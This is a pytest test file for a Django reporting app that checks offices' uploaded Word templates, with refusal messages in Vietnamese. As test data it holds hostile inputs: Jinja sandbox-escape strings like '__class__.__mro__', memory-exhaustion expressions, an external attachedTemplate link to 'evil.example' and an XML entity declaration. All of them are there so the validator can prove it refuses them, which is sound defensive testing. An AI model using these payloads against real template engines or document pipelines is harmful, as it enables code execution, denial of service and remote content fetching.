"""The office brings its own Word template: what is kept, what is refused, and in which words."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from cchc.models import AuditEvent
from conftest import at
from reports import office_template, template_trial
from reports.models import ReportTemplate
from reports.office_template import (
    BadTemplate,
    check_template,
    drop_template,
    keep_template,
    template_of,
)
from reports.to_docx import TEMPLATE, report_docx

WHOLE = (
    "{{ report.letterhead.superior }}",
    "{{ report.letterhead.agency }}",
    "{{ report.letterhead.number_line }}",
    "{{ report.letterhead.date_line }}",
    "{{ report.title }}",
    "{{ report.subject }}",
    "{% for section in report.sections %}{{ section.heading }} {% for paragraph in section.printed %}"
    "{% for line in paragraph.lines %}{{ line }} {% endfor %}{% endfor %}{% endfor %}",
    "{{ report.recipients|join(' ') }}",
    "{{ report.signer_title }}",
)
URL = reverse("reports:office_template")


in_a_child = office_template._printed_by


@pytest.fixture(autouse=True)
def tried_in_this_process(monkeypatch):
    """A child takes seconds to start; one test has it."""
    monkeypatch.setattr(office_template, "_printed_by", template_trial.printed_by)


def word_of(*paragraphs):
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def upload(content, name="mau.docx"):
    return SimpleUploadedFile(name, content)


def words_of(content):
    return "\n".join(paragraph.text for paragraph in Document(BytesIO(content)).paragraphs)


def test_ours_passes_its_own_check():
    check_template(upload(TEMPLATE.read_bytes()))


def test_the_child_prints_what_this_process_does_and_knows_no_secret(monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgres://nobody@nowhere.invalid/x")
    content = TEMPLATE.read_bytes()
    assert in_a_child(content) == template_trial.printed_by(content)
    monkeypatch.setattr(office_template, "TRIAL_MEMORY", 60 * 1024 * 1024)
    with pytest.raises(BadTemplate, match="quá nhiều thời gian hoặc bộ nhớ"):
        in_a_child(content)


def test_a_template_of_the_offices_own_making_passes():
    check_template(upload(word_of("BÁO CÁO NỘI BỘ", *WHOLE)))


@pytest.mark.parametrize("at_", range(len(WHOLE)))
def test_a_template_that_lacks_a_mark_is_refused_with_the_mark(at_):
    with pytest.raises(BadTemplate, match="còn thiếu chỗ điền") as refusal:
        check_template(upload(word_of(*WHOLE[:at_], *WHOLE[at_ + 1 :])))
    mark = ("section.heading" if "for section" in WHOLE[at_] else WHOLE[at_].strip("{} |")).split(
        "|"
    )
    known = "report.recipients" if "recipients" in WHOLE[at_] else mark[0].strip()
    assert known in str(refusal.value)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ report.no_such_thing }}", "no_such_thing"),
        ("{{ nobody }}", "nobody"),
        ("{% if report.late %}{{ report.late[0].no_such }}{% endif %}", "no_such"),
        ("{% if not report.late %}{{ only_when_empty }}{% endif %}", "only_when_empty"),
        ("{{ report.__class__ }}", "phép không được phép"),
        ("{{ report.sections.__len__() }}", "phép không được phép"),
        ("{{ ''.__class__.__mro__ }}", "phép không được phép"),
        ("{{ report.title.ljust(99999999999) }}", "phép không được phép"),
        ("{{ 'x' * 99999999999 }}", "phép không được phép"),
        ("{{ '%99999999999d' % 1 }}", "phép không được phép"),
        ("{% for i in range(99999) %}x{% endfor %}", "range"),
        ("{{ report.title|center(99999999999) }}", "Chỗ điền viết sai"),
        ("{{ report.title|no_such_filter }}", "no_such_filter"),
        ("{% for section in report.sections %}", "Chỗ điền viết sai"),
        ("{% include 'x' %}", "Không điền thử được"),
        (
            "{% for a in report.title %}" * 5 + "x" + "{% endfor %}" * 5,
            "lồng nhau quá sâu",
        ),
        ("{{ report.total + report.title }}", "Không điền thử được"),
    ],
)
def test_a_template_that_asks_for_more_than_a_report_is_refused_by_name(text, words):
    with pytest.raises(BadTemplate) as refusal:
        check_template(upload(word_of(*WHOLE, text)))
    assert words in str(refusal.value)


def test_a_template_that_prints_what_was_left_out_is_refused():
    everything = WHOLE[6].replace("section.printed", "section.paragraphs")
    with pytest.raises(BadTemplate, match="section.printed"):
        check_template(upload(word_of(*WHOLE[:6], everything, *WHOLE[7:])))


def rewritten(content, member, change):
    out = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(data) if name == member else data)
    return out.getvalue()


def test_a_template_that_fetches_from_outside_is_refused():
    linked = rewritten(
        word_of(*WHOLE),
        "word/_rels/document.xml.rels",
        lambda data: data.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
            b'TargetMode="External"/></Relationships>',
        ),
    )
    with pytest.raises(BadTemplate, match="từ bên ngoài"):
        check_template(upload(linked))
    declared = rewritten(
        word_of(*WHOLE),
        "word/document.xml",
        lambda data: data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1),
    )
    with pytest.raises(BadTemplate, match="khai báo lạ"):
        check_template(upload(declared))


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.4\n%%EOF", "mau.pdf"),
        (b"not a zip at all", "mau.docx"),
        (b"", "mau.docx"),
        (TEMPLATE.read_bytes()[:5000], "mau.docx"),
        (rewritten(word_of("x"), "word/document.xml", lambda data: b"<broken"), "mau.docx"),
    ],
)
def test_what_is_no_word_file_is_refused_in_vietnamese(content, name):
    with pytest.raises(BadTemplate) as refusal:
        check_template(upload(content, name))
    assert "tệp" in str(refusal.value).lower()


def test_a_kept_template_is_used_old_ones_stay_and_there_is_a_way_back(plan, thu, report):
    content = word_of("MẪU RIÊNG", *WHOLE)
    first = keep_template(plan=plan, upload=upload(content), by=thu, at=at(2024, 3, 1))
    again = keep_template(plan=plan, upload=upload(content), by=thu, at=at(2024, 3, 1))
    assert first == again
    made = words_of(report_docx(report, template_of(plan.unit)))
    assert "MẪU RIÊNG" in made and "Nơi nhận:" not in made
    drop_template(plan=plan, by=thu, at=at(2024, 3, 2))
    drop_template(plan=plan, by=thu, at=at(2024, 3, 2))
    assert template_of(plan.unit) == TEMPLATE
    assert list(ReportTemplate.objects.values_list("file__name", flat=True)) == [None, "mau.docx"]
    verbs = AuditEvent.objects.filter(verb__startswith="report_template").values_list(
        "verb", flat=True
    )
    assert sorted(verbs) == ["report_template_dropped", "report_template_kept"]


def test_only_the_plans_coordinator_changes_the_template(plan, quang, minh):
    for person in (quang, minh):
        with pytest.raises(PermissionDenied):
            keep_template(plan=plan, upload=upload(b""), by=person, at=at(2024, 3, 1))
        with pytest.raises(PermissionDenied):
            drop_template(plan=plan, by=person, at=at(2024, 3, 1))


def test_the_page_keeps_refuses_gives_back_and_hands_out(client, plan, thu, settings):
    client.force_login(thu)
    refused = client.post(URL, {"file": upload(word_of("x"))})
    assert refused.status_code == 422
    assert "report.signer_title" in refused.content.decode()
    assert client.post(URL).status_code == 422
    assert not ReportTemplate.objects.exists()
    content = word_of(*WHOLE)
    page = client.post(URL, {"file": upload(content, "mẫu văn phòng.docx")}, follow=True)
    assert "mẫu văn phòng.docx" in page.content.decode()
    kept = ReportTemplate.objects.get()
    file = client.get(reverse("reports:office_template_file", args=[kept.pk]))
    assert b"".join(file.streaming_content) == content
    ours = client.get(reverse("reports:our_template_file"))
    assert ours.content == TEMPLATE.read_bytes()
    page = client.post(URL, {"ours": "1"}, follow=True)
    assert "mẫu của phần mềm" in page.content.decode()
    assert template_of(plan.unit) == TEMPLATE


@pytest.mark.parametrize("kind", ["member", "leader"])
def test_others_do_not_see_the_page(client, plan, minh, quang, kind):
    client.force_login(minh if kind == "member" else quang)
    assert client.get(URL).status_code == 403
